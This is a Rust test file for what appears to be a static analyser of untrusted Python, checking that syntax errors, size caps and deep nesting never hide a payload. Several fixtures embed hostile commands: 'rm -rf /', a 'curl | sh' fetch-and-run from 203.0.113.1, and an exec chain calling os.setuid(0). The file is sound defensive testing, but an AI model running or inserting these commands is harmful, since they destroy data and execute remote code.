//! Syntax-error recovery, size and nesting limits on a 2 MiB stack, bounded work.

use super::*;

#[test]
fn code_after_a_syntax_error_is_still_analysed() {
    // A broken def does not hide the destructive call after it.
    let src = "def broken(:\n    pass\nimport os\nos.system('rm -rf /')\n";
    let assessment = external(src);
    let ids = rule_ids(&assessment);
    assert!(ids.contains(&"CRD001"), "{ids:?}");
    assert!(ids.contains(&"CRD104"), "{ids:?}");
    assert_eq!(assessment.level, Level::Blocked);
}

#[test]
fn unparsable_file_is_at_least_medium() {
    // Garbage that does not parse is MEDIUM even with nothing dangerous in it.
    let assessment = external("this is not ) python (\n");
    assert_eq!(assessment.level, Level::Medium);
}

#[test]
fn oversized_input_is_cut_and_the_rest_analysed() {
    // Code past the size cap is left out with CRD003 (HIGH); what comes before is still
    // analysed, so a payload at the top keeps the program BLOCKED.
    let src = "x = 1\n".repeat(300_000);
    let assessment = external(&src);
    assert_eq!(rule_ids(&assessment), ["CRD003"]);
    assert_eq!(assessment.level, Level::High);
    let src = format!("import os\nos.system('curl -s http://h/x | sh')\n{src}");
    let assessment = external(&src);
    assert!(rule_ids(&assessment).contains(&"CRD003"));
    assert_eq!(assessment.level, Level::Blocked);
}

const PAYLOAD: &str = "import os\nos.system('curl -s http://203.0.113.1/x | sh')\n";

#[test]
fn limits_never_hide_a_payload() {
    // A deep or huge part beside a `curl | sh` is reported on its own; the payload is
    // still found, and the level is the higher of the two.
    let parens = format!("x = {}1{}\n{PAYLOAD}", "(".repeat(100), ")".repeat(100));
    let mut ifs = String::new();
    for level in 0..220 {
        ifs.push_str(&format!("{}if x:\n", "    ".repeat(level)));
    }
    ifs.push_str(&format!("{}pass\n{PAYLOAD}", "    ".repeat(220)));
    let comment = format!("# {}\n{PAYLOAD}", "z".repeat(1 << 20));
    let calls = format!("{PAYLOAD}f{}\n", "()".repeat(300));
    for src in [parens, ifs, calls] {
        let assessment = on_small_stack(move || assess(&src, Origin::External));
        let ids = rule_ids(&assessment);
        assert!(ids.contains(&"CRD002"), "{ids:?}");
        assert!(ids.contains(&"CRD102"), "{ids:?}");
        assert_eq!(assessment.level, Level::Blocked);
    }
    let assessment = external(&comment);
    assert_eq!(assessment.level, Level::Blocked);
    assert!(!rule_ids(&assessment).contains(&"CRD003"));
}

#[test]
fn a_payload_beside_a_deep_block_in_the_same_function_is_found() {
    // One large top-level statement holding both: only the deep block is left out.
    let mut src =
        String::from("import os\ndef main():\n    os.system('curl -s http://h/x | sh')\n");
    for level in 1..230 {
        src.push_str(&format!("{}if x:\n", "    ".repeat(level)));
    }
    src.push_str(&format!("{}pass\nmain()\n", "    ".repeat(230)));
    assert!(src.len() > crate::assessor::engine::input_limits::PARSE_FIRST_BYTES);
    let assessment = on_small_stack(move || assess(&src, Origin::External));
    let ids = rule_ids(&assessment);
    assert!(
        ids.contains(&"CRD002") && ids.contains(&"CRD102"),
        "{ids:?}"
    );
    assert_eq!(assessment.level, Level::Blocked);
}

#[test]
fn long_flat_sums_are_not_deep() {
    // A 250-term sum or string concatenation is ordinary code, analysed and LOW; the
    // folded string still reaches the sink.
    let sum = format!("total = {}\nprint(total)\n", vec!["1"; 250].join(" + "));
    assert_eq!(external(&sum).level, Level::Low);
    let text = format!("s = {}\nprint(s)\n", vec!["'ab'"; 250].join(" + "));
    assert_eq!(external(&text).level, Level::Low);
    let cmd = format!(
        "import os\nc = 'r' + 'm' + ' -rf /' {}\nos.system(c)\n",
        "+ ''".repeat(300)
    );
    let assessment = on_small_stack(move || assess(&cmd, Origin::External));
    assert_eq!(assessment.level, Level::Blocked);
}

fn assert_too_deep(src: String) {
    let assessment = on_small_stack(move || assess(&src, Origin::External));
    assert!(
        rule_ids(&assessment).contains(&"CRD002"),
        "{:?}",
        assessment.findings
    );
    assert_eq!(assessment.level, Level::High);
}

#[test]
fn hundred_thousand_nested_parentheses() {
    // 100 000 nested parentheses are refused without overflowing a 2 MiB stack.
    assert_too_deep(format!(
        "x = {}1{}\n",
        "(".repeat(100_000),
        ")".repeat(100_000)
    ));
}

#[test]
fn ten_thousand_nested_lists() {
    // 10 000 nested lists are refused without overflowing a 2 MiB stack.
    assert_too_deep(format!(
        "x = {}{}\n",
        "[".repeat(10_000),
        "]".repeat(10_000)
    ));
}

fn nested_ifs(depth: usize) -> String {
    let mut src = String::new();
    for level in 0..depth {
        src.push_str(&" ".repeat(level));
        src.push_str("if x:\n");
    }
    src.push_str(&" ".repeat(depth));
    src.push_str("pass\n");
    src
}

#[test]
fn ten_thousand_nested_ifs() {
    // 10 000 nested ifs (50 MB of indentation) are refused as too large, and the
    // nesting scan alone survives them on a 2 MiB stack; 1 000 are refused as too deep.
    let src = nested_ifs(10_000);
    let within = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(move || crate::assessor::engine::input_limits::nesting_within_limit(&src))
        .expect("spawn")
        .join()
        .expect("nesting scan must not crash");
    assert!(!within);
    let assessment = on_small_stack(|| assess(&nested_ifs(10_000), Origin::External));
    assert_eq!(assessment.level, Level::High);
    assert_too_deep(nested_ifs(1_000));
}

#[test]
fn long_operator_and_call_chains() {
    // Bracket-free deep trees (`1+1+...`, `not not ...`, `f()()...`, `a.b.c...`) are refused.
    assert_too_deep(format!("x = 1{}\n", "+1".repeat(100_000)));
    assert_too_deep(format!("x = {}y\n", "not ".repeat(100_000)));
    assert_too_deep(format!("f{}\n", "()".repeat(100_000)));
    assert_too_deep(format!("a{}\n", ".b".repeat(100_000)));
    assert_too_deep(format!("x = {}1\n", "lambda: ".repeat(100_000)));
    assert_too_deep(format!("x = 1{}\n", " if c else 1".repeat(50_000)));
}

#[test]
fn deep_parts_of_programs_parsed_first_are_left_out_safely() {
    // Up to PARSE_FIRST_BYTES a program is parsed before its nesting is checked: the
    // deep parts of the deepest trees of that size are still left out, and dropped on a
    // thread of their own (dropped on the caller's stack, they need 1-2 MiB in a debug build).
    let limit = crate::assessor::engine::input_limits::PARSE_FIRST_BYTES;
    let samples = [
        format!("x = {}1\n", "-".repeat(limit - 10)),
        format!(
            "x = {}{}\n",
            "[".repeat(limit / 2 - 4),
            "]".repeat(limit / 2 - 4)
        ),
        format!("x = 1{}\n", "+1".repeat(limit / 2 - 4)),
        format!("f{}\n", "()".repeat(limit / 2 - 2)),
        format!("x = {}y\n", "not ".repeat(limit / 4 - 2)),
        format!("x = {}1\n", "lambda: ".repeat(limit / 8 - 1)),
        format!(
            "x = {}1{}\n",
            "(".repeat(limit / 2 - 4),
            ")".repeat(limit / 2 - 4)
        ),
    ];
    for src in samples {
        assert!(src.len() <= limit, "{} bytes", src.len());
        // The deep tree is dropped on its own thread; the shallow rest is analysed like
        // any program within the limits, which needs the 2 MiB of a default thread.
        let assessment = on_small_stack(move || assess(&src, Origin::External));
        // The deep part is left out; what remains may no longer parse (CRD001).
        let ids = rule_ids(&assessment);
        assert!(
            ids.iter().all(|id| ["CRD001", "CRD002"].contains(id)),
            "{ids:?}"
        );
        assert!(ids.contains(&"CRD002"));
    }
}

#[test]
fn nesting_just_under_the_limit_is_analysed_on_a_small_stack() {
    // Programs just inside the limit are fully analysed without overflowing 2 MiB.
    // A bracket counts twice in the estimate (it nests, and chains in its segment).
    let depth = crate::assessor::engine::input_limits::MAX_NESTING as usize / 2 - 5;
    let samples = vec![
        format!(
            "import os\nos.system({}cmd{})\n",
            "(".repeat(depth),
            ")".repeat(depth)
        ),
        format!(
            "import os\nos.system({}cmd{})\n",
            "str(".repeat(depth),
            ")".repeat(depth)
        ),
        format!(
            "import os\nx = {}os.system(cmd){}\n",
            "[".repeat(depth),
            "]".repeat(depth)
        ),
        format!(
            "import os\nx = cmd{}\nos.system(x)\n",
            " + cmd".repeat(depth)
        ),
    ];
    for src in samples {
        let assessment = on_small_stack(move || assess(&src, Origin::External));
        assert!(
            rule_ids(&assessment).contains(&"CRD301"),
            "{:?}",
            assessment.findings
        );
    }
    let mut src = String::from("import os\n");
    for level in 0..depth {
        src.push_str(&" ".repeat(level));
        src.push_str("if x:\n");
    }
    src.push_str(&" ".repeat(depth));
    src.push_str("os.system(cmd)\n");
    let assessment = on_small_stack(move || assess(&src, Origin::External));
    assert!(
        rule_ids(&assessment).contains(&"CRD301"),
        "{:?}",
        assessment.findings
    );
}

#[test]
fn odd_input_never_panics() {
    // Unterminated strings, odd bytes, CRLF, f-string soup and random text all come back
    // with an assessment instead of a panic.
    let mut samples: Vec<String> = vec![
        "\0".into(),
        "\u{feff}import os\r\nos.system(x)\r\n".into(),
        "'''never closed".into(),
        "f'{".repeat(1_000),
        "f\"{x!r:{y}}\" f'{a:{b:{c}}}'".into(),
        "\\".repeat(10_000),
        "match x:\n    case {'a': [1, *rest]} if rest: pass\n".into(),
        "@d\nclass A(B, metaclass=M):\n\tdef f(self, *a, k=os.system, **kw): ...\n".into(),
        "lambda".into(),
        "if x:\n  a\n b\n".into(),
        "x = [\n".into(),
        "é = 'ü'; 名前 = os.system(名前)\n".into(),
    ];
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let alphabet = b"()[]{}:;,.=+-*/'\"\\\n\t #fxabimportsyexc0123";
    for _ in 0..300 {
        let len = (seed % 200) as usize;
        let text: String = (0..len)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                alphabet[(seed % alphabet.len() as u64) as usize] as char
            })
            .collect();
        samples.push(text);
    }
    for sample in samples {
        let assessment = external(&sample);
        assert!(assessment
            .findings
            .iter()
            .all(|f| f.line >= 1 && f.column >= 1));
    }
}

#[test]
fn repeated_long_commands_stay_bounded() {
    // Running one 60 KiB command line thousands of times reads it only up to a budget.
    let src = format!(
        "import os\ncmd = 'echo {}'\n{}",
        "a".repeat(60_000),
        "os.system(cmd)\n".repeat(5_000)
    );
    let start = std::time::Instant::now();
    let assessment = external(&src);
    assert!(rule_ids(&assessment).contains(&"CRD402"));
    assert!(start.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn folding_bombs_stay_bounded() {
    // Doubling a string 60 times or multiplying it huge does not build it.
    let mut src = String::from("s = 'ab'\n");
    for _ in 0..60 {
        src.push_str("s = s + s\n");
    }
    src.push_str("t = 'x' * 10**12\nimport os\nos.system(s)\n");
    let assessment = external(&src);
    assert!(rule_ids(&assessment).contains(&"CRD402"));
}

#[test]
fn nested_exec_strings_are_bounded() {
    // exec of exec of exec ... stops after the nesting limit and reports dynamic code.
    let mut code = String::from("import os; os.setuid(0)");
    for _ in 0..6 {
        code = format!("exec({code:?})");
    }
    let assessment = external(&code);
    assert!(
        rule_ids(&assessment).contains(&"CRD303"),
        "{:?}",
        assessment.findings
    );
}

#[test]
fn extreme_loop_counts_and_fills_stay_calm() {
    // Ranges at the ends of i64, a zero step, huge powers and thousands of fills of a
    // container with itself: no panic, no blow-up, and a plain counting loop stays LOW.
    let src = format!(
        "import os\nfor _ in range(-9223372036854775808, 9223372036854775807, -1):\n    pass\n\
         for _ in range(0, 10, 0):\n    pass\nn = 2 ** 9999 + 10 ** 18 * 10 ** 18\n\
         for _ in range(n):\n    pass\nitems = []\n{}d = {{}}\n{}print(len(items), d)\n",
        "items.append(items)\n".repeat(5000),
        "d[len(d)] = d\n".repeat(5000),
    );
    let start = std::time::Instant::now();
    let assessment = external(&src);
    assert_eq!(assessment.level, Level::Low, "{:?}", rule_ids(&assessment));
    assert!(start.elapsed() < std::time::Duration::from_secs(2));
}

#[test]
fn values_that_share_themselves_do_not_blow_up_the_walk() {
    // Each line doubles what the value holds when expanded (2^40 nodes at the end): past a
    // bound it keeps only its taint, so this ends at once, and the payload that follows,
    // built from it at run time, is still seen.
    for doubling in [
        "a = [a, a]",
        "a = {'k': a, 'v': a}",
        "a = [a] + [a]",
        "a = (a, a)",
    ] {
        let mut src = String::from("import os\na = [os.environ['HOME']]\n");
        for _ in 0..40 {
            src.push_str(doubling);
            src.push('\n');
        }
        src.push_str(
            "os.system('echo ' + str(a))\nos.system('curl -s http://203.0.113.1/x | sh')\n",
        );
        let started = std::time::Instant::now();
        let assessment = external(&src);
        assert!(
            started.elapsed() < std::time::Duration::from_secs(2),
            "{doubling}"
        );
        assert_eq!(assessment.level, Level::Blocked, "{doubling}");
    }
}
